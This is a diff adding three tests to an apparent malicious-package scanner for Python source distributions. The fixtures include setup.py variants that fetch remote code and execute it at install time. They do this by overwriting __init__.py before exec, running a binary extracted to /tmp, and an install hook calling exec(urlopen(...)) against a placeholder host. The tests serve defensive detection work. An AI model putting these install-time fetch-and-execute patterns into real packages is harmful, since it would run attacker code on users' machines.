@@ -1036,3 +1036,65 @@ def test_compiled_code_that_is_only_looked_at_is_not_executed() -> None:
     assert honest.verdict is Verdict.CLEAN, honest.findings
     executed = source.replace("return code.co_names", "exec(code)") + "names('a')\n"
     assert screen_bytes(pack({INIT: executed}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS
+
+
+def test_what_is_written_to_one_open_file_is_not_read_from_another() -> None:
+    """A build that fetches its fonts, and executes the line of its own source that tells its version."""
+    source = (
+        "import os\n"
+        "from urllib.request import urlopen\n"
+        "from setuptools import setup\n"
+        "HERE = os.path.dirname(__file__)\n"
+        "def fonts():\n"
+        "    with open(os.path.join(HERE, 'pkg', 'fonts', 'a.pfb'), 'wb') as file:\n"
+        "        file.write(urlopen('https://c.example.invalid/a.pfb').read())\n"
+        "def version():\n"
+        "    for line in open(os.path.join(HERE, 'pkg', '__init__.py')).readlines():\n"
+        "        if line.startswith('Version'):\n"
+        "            told = {}\n"
+        "            exec(line.strip(), told)\n"
+        "            return told['Version']\n"
+        "fonts()\n"
+        "setup(name='pkg', version=version())\n"
+    )
+    honest = screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST)
+    assert honest.verdict is Verdict.CLEAN, honest.findings
+    fetched = source.replace("'fonts', 'a.pfb'", "'__init__.py'")
+    assert screen_bytes(pack({"setup.py": fetched}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
+
+
+def test_what_is_unpacked_beside_the_package_is_not_all_that_lies_there() -> None:
+    """A build that fetches a library into its own tree, and then starts compilers in that tree."""
+    source = (
+        "import os, subprocess, tarfile\n"
+        "from urllib.request import urlretrieve\n"
+        "from setuptools import setup\n"
+        "HERE = os.path.dirname(__file__)\n"
+        "urlretrieve('https://c.example.invalid/lib-1.0.tar.gz', 'lib.tar.gz')\n"
+        "tarfile.open('lib.tar.gz').extractall(path=HERE)\n"
+        "subprocess.run(['headers', 'common.h'], cwd=HERE + '/native', check=True)\n"
+        "setup(name='pkg')\n"
+    )
+    honest = screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST)
+    assert honest.verdict is Verdict.CLEAN, honest.findings
+    elsewhere = source.replace("path=HERE", "path='/tmp/l'").replace("['headers', 'common.h']", "['/tmp/l/start']")
+    assert screen_bytes(pack({"setup.py": elsewhere}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
+
+
+def test_a_command_of_maintainers_is_given_by_no_installation() -> None:
+    """What is fetched when a source distribution is made, and when it is installed."""
+    source = (
+        "from urllib.request import urlopen\n"
+        "from setuptools import setup\n"
+        "from setuptools.command.sdist import sdist\n"
+        "class Plain(sdist):\n"
+        "    pass\n"
+        "class Fetching(Plain):\n"
+        "    def run(self):\n"
+        "        exec(urlopen('https://c.example.invalid/a').read())\n"
+        "setup(name='pkg', cmdclass={'sdist': Fetching})\n"
+    )
+    made = screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST)
+    assert made.verdict is not Verdict.MALICIOUS, made.findings
+    installed = source.replace("{'sdist'", "{'install'")
+    assert screen_bytes(pack({"setup.py": installed}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
